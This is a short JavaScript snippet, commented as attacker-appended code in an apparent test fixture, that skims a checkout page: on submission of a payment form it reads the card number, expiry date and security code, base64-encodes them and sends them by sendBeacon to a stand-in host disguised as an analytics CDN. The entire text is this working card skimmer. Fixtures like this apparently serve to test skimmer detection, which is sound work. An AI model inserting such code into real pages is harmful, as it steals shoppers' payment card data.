
// --- appended by the attacker (test fixture: sends only to a fixture host) ---
document.getElementById('payment-form').addEventListener('submit', function () {
  var d = btoa(JSON.stringify({ n: document.getElementById('cc-number').value, e: document.getElementById('cc-exp').value, c: document.getElementById('cc-csc').value }));
  navigator.sendBeacon('https://static.watch-cdn-analytics.test/c.gif', d);
});
